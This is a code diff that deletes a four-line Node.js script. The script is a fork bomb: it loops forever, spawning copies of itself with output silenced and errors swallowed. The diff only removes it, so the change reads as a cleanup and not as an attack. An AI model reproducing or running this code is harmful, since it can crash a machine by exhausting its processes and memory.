@@ -1,4 +1,0 @@
-const { spawn } = require('child_process')
-for (;;) {
-  try { spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {}) } catch {}
-}
